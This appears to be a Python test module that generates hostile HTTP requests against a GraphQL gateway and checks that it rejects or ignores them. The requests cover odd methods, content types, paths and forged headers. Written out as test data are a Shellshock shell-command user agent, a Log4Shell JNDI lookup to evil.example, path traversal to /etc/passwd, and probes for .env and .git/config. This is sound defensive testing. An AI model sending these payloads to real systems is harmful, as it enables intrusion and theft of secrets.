"""What HTTP itself allows to be strange: methods, paths, content types, forms across sites, encodings, headers."""

import json
from collections.abc import Iterator
from urllib.parse import quote

from graphql_api.http import GRAPHQL, JSON
from tests.hostile.oracle import Case, Expected, before, sound
from tests.hostile.sending import Request
from tests.hostile.shapes import Operation

NAME = b"{ __typename }"
BODY = b'{"query":"{ __typename }"}'
ANSWERED = sound({"__typename": "Query"})
UNSUPPORTED = before("BAD_INPUT", 415)
NOT_ALLOWED = before("BAD_INPUT", 405, headers={"allow": "GET, POST"})
PLAIN = ("accept", GRAPHQL)


def _with(name: str, headers: dict[str, str], expected: Expected, body: bytes = BODY) -> Case:
    return Case(name=name, request=Request(headers=tuple(headers.items()), body=body), expected=expected, calls=0)


def methods(operations: list[Operation]) -> Iterator[Case]:
    """Yield methods that are not GET or POST, and mutations by GET."""
    for method in (
        "HEAD", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "CONNECT", "PROPFIND", "MKCOL", "SEARCH", "QUERY",
        "post", "Get", "GETX", "FOO", "P" * 200, "POST\tX", "X-HTTP-METHOD",
    ):  # fmt: skip
        yield Case(
            name=f"method {method[:20]}", request=Request(method=method, body=BODY), expected=NOT_ALLOWED, calls=0
        )
    for header in ("x-http-method-override", "x-http-method", "x-method-override"):
        request = Request(method="GET", headers=(PLAIN, (header, "POST")), query=b"query=mutation%7B__typename%7D")
        expected = before("BAD_INPUT", 405, headers={"allow": "POST"})
        yield Case(name=f"{header} on GET", request=request, expected=expected, calls=0)
    for operation in (o for o in operations if o.mutates):
        query = f"query={quote(operation.text)}&variables={quote(json.dumps(operation.variables))}".encode()
        yield Case(
            name=f"{operation.name} by GET",
            request=Request(by=operation.by, method="GET", headers=(PLAIN,), query=query),
            expected=before("BAD_INPUT", 405, headers={"allow": "POST"}),
            calls=0,
        )
        form = f"query={quote(operation.text)}".encode()
        yield Case(
            name=f"{operation.name} as a form of another site",
            request=Request(
                by=operation.by,
                headers=(
                    PLAIN,
                    ("content-type", "application/x-www-form-urlencoded"),
                    ("origin", "https://evil.example"),
                ),
                body=form,
            ),
            expected=UNSUPPORTED,
            calls=0,
        )


def content_types() -> Iterator[Case]:
    """Yield types, charsets and encodings of bodies."""
    for given in (
        "", "text/plain", "text/plain; charset=utf-8", "application/x-www-form-urlencoded", "multipart/form-data",
        "multipart/form-data; boundary=x", "multipart/mixed; boundary=x", "application/graphql",
        "application/graphql+json", "application/graphql-response+json", "application/jsonfoo", "application/json5",
        "application/xjson", "application/vnd.api+json", "application/ld+json", "text/json", "json", "*/*",
        "application/*", "application/json, text/plain", "text/plain, application/json", "application\\json",
        "application/json/", "application/json\t;x", "application/x-ndjson", "application/octet-stream",
        "application/json; charset=utf-16", "application/json; charset=utf-7", "application/json; charset=latin1",
        "application/json; charset=", "application/json; charset=utf8", "application/json; charset='utf-8'",
        "application/json; charset=utf-8; charset=utf-16", "application/json; charset=utf-16; charset=utf-8",
        "application/xml", "text/html", "image/svg+xml", "application/javascript", "application/msgpack",
    ):  # fmt: skip
        if given == "application/json\t;x":
            continue
        yield _with(f"content type {given or 'empty'}", {"accept": GRAPHQL, "content-type": given}, UNSUPPORTED)
    yield Case(name="no content type", request=Request(headers=(PLAIN,), body=BODY), expected=UNSUPPORTED, calls=0)
    for given in (
        "application/json", "APPLICATION/JSON", " application/json ", "application/json;", "application/json; x=y",
        "application/json;charset=utf-8", 'application/json; charset="UTF-8"', "application/json ; charset=UTF-8",
    ):  # fmt: skip
        yield _with(f"content type {given!r}", {"accept": GRAPHQL, "content-type": given}, ANSWERED)
    for given in ("gzip", "deflate", "br", "zstd", "identity", "gzip, gzip", "chunked", "", "x", "compress"):
        headers = {"accept": GRAPHQL, "content-type": JSON, "content-encoding": given}
        yield _with(f"content encoding {given or 'empty'}", headers, UNSUPPORTED)


def accepts() -> Iterator[Case]:
    """Yield what clients say that they accept."""
    for given in (
        "text/html", "text/*", "application/xml", "image/*", "application/jsonfoo", "application/json;q=0",
        "*/*;q=0", "application/*;q=0", "application/json;q=abc", "application/json;q=nan", "application/json;q=-1",
        "application/json;charset=utf-16", "multipart/mixed", "text/event-stream", ",", ";", "q=1", "*", "/",
        "application/graphql-response+json;q=0, application/json;q=0.0", "application/json;q=1e-400", "\x1b[31m",
        ", ".join(["text/html"] * 20 + ["application/json"]),
    ):  # fmt: skip
        yield _with(f"accept {given[:60]!r}", {"accept": given, "content-type": JSON}, before("BAD_INPUT", 406))
    for given in (
        "*/*", "", " ", "application/*", "APPLICATION/JSON", "application/json;q=inf",
        "application/json; charset=UTF-8",
        "text/html, */*;q=0.1", "x" * 5_000 + ", */*", ",".join(["application/json"] * 1_000),
    ):  # fmt: skip
        yield _with(f"accept {given[:40]!r} ({len(given)})", {"accept": given, "content-type": JSON}, ANSWERED)


def addresses() -> Iterator[Case]:
    """Yield paths that are not the gateway's, and its query strings."""
    absent = before("NOT_FOUND", 404)
    for path in (
        "/", "/graphql/", "/GRAPHQL", "/graphql//", "//graphql", "/graphql/..", "/./graphql", "/graphql;x",
        "/graphql\0", "/graphiql", "/api/graphql", "/playground", "/altair", "/voyager", "/.env", "/.git/config",
        "/admin", "/metrics",
        "/debug", "/docs", "/openapi.json", "/healthz/", "/..%2f..%2fetc/passwd", "/../../etc/passwd", "/graphql%00",
        "/assets/../../pyproject.toml", "/assets/graphiql.js", "/files/x", "/ế", "/" + "a" * 5_000, "/{x}", "/__schema",
    ):  # fmt: skip
        yield Case(name=f"path {path[:40]!r}", request=Request(path=path, body=BODY), expected=absent, calls=0)
        request = Request(method="GET", path=path, query=b"query=%7B__typename%7D")
        yield Case(name=f"GET {path[:40]!r}", request=request, expected=absent, calls=0)
    bad = before("BAD_INPUT")
    for label, query in {
        "nothing": b"",
        "an empty query": b"query=",
        "a blank query": b"query=+",
        "query twice": b"query=%7B__typename%7D&query=%7B__typename%7D",
        "query twice, once escaped": b"query=%7B__typename%7D&%71uery=%7B__typename%7D",
        "variables twice": b"query=%7B__typename%7D&variables=%7B%7D&variables=%7B%7D",
        "variables that are no JSON": b"query=%7B__typename%7D&variables=x",
        "variables that are a list": b"query=%7B__typename%7D&variables=%5B%5D",
        "variables that are text": b"query=%7B__typename%7D&variables=%22%22",
        "variables nested 40 deep": b"query=%7B__typename%7D&variables=" + b"%5B" * 40,
        "variables with a doubled key": b"query=%7B__typename%7D&variables=%7B%22a%22%3A1%2C%22a%22%3A2%7D",
        "variables with NaN": b"query=%7B__typename%7D&variables=%7B%22a%22%3ANaN%7D",
        "variables of 5,000 digits": b"query=%7B__typename%7D&variables=%7B%22a%22%3A" + b"9" * 5000 + b"%7D",
        "extensions that are text": b"query=%7B__typename%7D&extensions=%22%22",
        "an operation that is not there": b"query=%7B__typename%7D&operationName=A",
        "no UTF-8": b"query=%7B%ff__typename%7D",
        "a NUL": b"query=%7B%00__typename%7D",
        "raw bytes": b"query=\xff\xfe",
        "half an escape": b"query=%7B__typename%7",
        "a semicolon between": b"query=%7B__typename%7D;query=1",
        "a query of 20 kB": b"query=%7B__typename%7D%23" + b"x" * 20_000,
        "a query nested 600 deep": b"query=" + b"%7B" * 600,
        "a batch": b"query=%5B%5D",
    }.items():
        yield Case(
            name=f"GET with {label}",
            request=Request(method="GET", headers=(PLAIN,), query=query),
            expected=bad,
            calls=0,
        )
    for label, query in {
        "unknown parameters": b"query=%7B__typename%7D&debug=1&callback=alert(1)",
        "a body besides": b"query=%7B__typename%7D",
        "empty variables": b"query=%7B__typename%7D&variables=",
    }.items():
        request = Request(method="GET", headers=(PLAIN,), query=query, body=b'{"query":"mutation { x }"}')
        yield Case(name=f"GET with {label}", request=request, expected=ANSWERED, calls=0)
    request = Request(query=b"query=mutation%7Bx%7D", body=BODY)
    yield Case(name="POST with a query string", request=request, expected=ANSWERED, calls=0)


def headers() -> Iterator[Case]:
    """Yield headers that other servers believe, and that mean nothing here."""
    for label, more in {
        "a forged client": ("x-forwarded-for", "127.0.0.1"),
        "a forged host": ("x-forwarded-host", "evil.example"),
        "another address": ("x-original-url", "/admin"),
        "a rewritten address": ("x-rewrite-url", "/admin"),
        "an origin": ("origin", "https://evil.example"),
        "a null origin": ("origin", "null"),
        "a referer": ("referer", "https://evil.example/<script>"),
        "a debug switch": ("x-debug", "1"),
        "a role": ("x-role", "ADM"),
        "a user": ("x-user", "adm.here"),
        "an API Gateway's authorizer": ("x-amzn-oidc-identity", "adm.here"),
        "an upgrade": ("upgrade", "websocket"),
        "an upgrade to HTTP/2": ("upgrade", "h2c"),
        "a range": ("range", "bytes=0-1"),
        "a condition": ("if-none-match", "*"),
        "a cookie": ("cookie", "authorization=Bearer x; role=ADM"),
        "a language": ("accept-language", "x" * 5_000),
        "a shell in the user agent": ("user-agent", "() { :;}; /bin/sh -c id"),
        "a lookup in the user agent": ("user-agent", "${jndi:ldap://evil.example/x}"),
        "colours in the user agent": ("user-agent", "\x1b[2J\x1b[31mroot"),
        "a trace": ("traceparent", "00-" + "f" * 5_000),
        "a wrong length": ("content-length", "1"),
        "a negative length": ("content-length", "-1"),
        "an expectation": ("expect", "100-continue"),
    }.items():
        request = Request(headers=(PLAIN, ("content-type", JSON), more), body=BODY)
        yield Case(name=f"header: {label}", request=request, expected=ANSWERED, calls=0)
